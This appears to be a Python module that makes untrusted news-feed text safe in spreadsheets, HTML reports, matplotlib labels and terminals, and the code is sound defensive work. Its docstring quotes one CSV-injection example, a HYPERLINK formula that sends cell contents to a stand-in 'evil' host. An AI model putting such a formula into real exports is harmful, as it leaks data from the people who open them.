"""Outputs for readers of hostile text: the feeds are written by the outlets we watch, and an
analyst opens what we write from them in a spreadsheet and in a browser.

- **Spreadsheets** evaluate a cell that starts with a formula trigger (OWASP "CSV injection":
  ``=``, ``+``, ``-``, ``@``, tab, carriage return), e.g. a title ``=HYPERLINK("http://evil/?"&A1)``.
  :func:`spreadsheet_cells` prefixes every such *text* cell with an apostrophe, which Excel and
  LibreOffice both show as text; numbers are not text and stay numbers. The unaltered values go
  to the Parquet twin beside each CSV (``detector.report.writer.write_table``), for programs.
- **Browsers**: ``report.html`` escapes every value; on top of that :func:`csp_meta` allows only
  the page's own script and style (by hash), so markup that ever slipped through escaping could
  not run. :func:`show_bidi_controls` makes right-to-left overrides and their kin visible
  instead of letting them reorder what an analyst reads.
- **Matplotlib** reads ``$...$`` in a label as math (and raises on a bad one): :func:`plain_label`.
- **Terminals** (``detector show``) obey escape sequences (colours, clearing the screen, OSC 8
  hyperlinks) and rich parses ``[...]`` as markup: :func:`terminal_safe`, given as ``Text``.
"""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Sequence

import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Explicit embeddings, overrides and isolates (LRE RLE PDF LRO RLO, LRI RLI FSI PDI): they change
# the order in which the characters after them are *displayed*. The implicit marks (LRM, RLM) that
# Arabic and Hebrew text uses are left alone.
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
# C0 and C1 control characters but tab and line feed: ESC starts a terminal escape sequence.
TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def neutralise_formula(value: object) -> object:
    """``value`` with a leading ``'`` when it is text that a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def spreadsheet_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell passed through :func:`neutralise_formula`.

    Only text columns are touched, so a negative number (``lag_hours`` -3.5) stays a number; ids
    are text, so an id ``-17`` becomes ``'-17`` in every CSV alike and joins between our CSVs
    still hold (the Parquet copy has the feed's id verbatim).
    """
    out = frame.copy()
    types = pd.api.types
    for column in out.columns:
        if not (types.is_numeric_dtype(out[column]) or types.is_datetime64_any_dtype(out[column])):
            out[column] = out[column].map(neutralise_formula)
    return out


def _sha256(source: str) -> str:
    digest = hashlib.sha256(source.encode("utf-8")).digest()
    return f"'sha256-{base64.b64encode(digest).decode('ascii')}'"


def csp_meta(scripts: Sequence[str], styles: Sequence[str]) -> str:
    """A ``Content-Security-Policy`` meta tag for a self-contained page whose only script and style
    are the inline blocks ``scripts`` and ``styles`` (their exact text): everything else —
    another inline script, an event-handler attribute, a ``javascript:`` URL, a style attribute,
    any request but ``data:`` images — is refused by the browser. It must precede them."""
    policy = "; ".join([
        "default-src 'none'",
        "script-src " + " ".join(_sha256(s) for s in scripts),
        "style-src " + " ".join(_sha256(s) for s in styles),
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ])  # fmt: skip
    return f'<meta http-equiv="Content-Security-Policy" content="{policy}">'


def _mark(match: re.Match[str]) -> str:
    return f"⟦U+{ord(match.group()):04X}⟧"


def show_bidi_controls(text: str) -> str:
    """``text`` with each explicit bidi control replaced by a visible ``⟦U+202E⟧``."""
    return BIDI_CONTROLS.sub(_mark, text)


def terminal_safe(text: str) -> str:
    """``text`` for a terminal, with control characters (ESC ...) and bidi controls shown as
    visible ``⟦U+001B⟧`` marks. Give it to rich as ``Text(...)``, never as a markup string."""
    return show_bidi_controls(TERMINAL_CONTROLS.sub(_mark, text))


def plain_label(text: str) -> str:
    """``text`` for a matplotlib label, shown as written: ``$`` would start math mode, and the
    text renderer applies bidi controls too."""
    return show_bidi_controls(text).replace("$", r"\$")
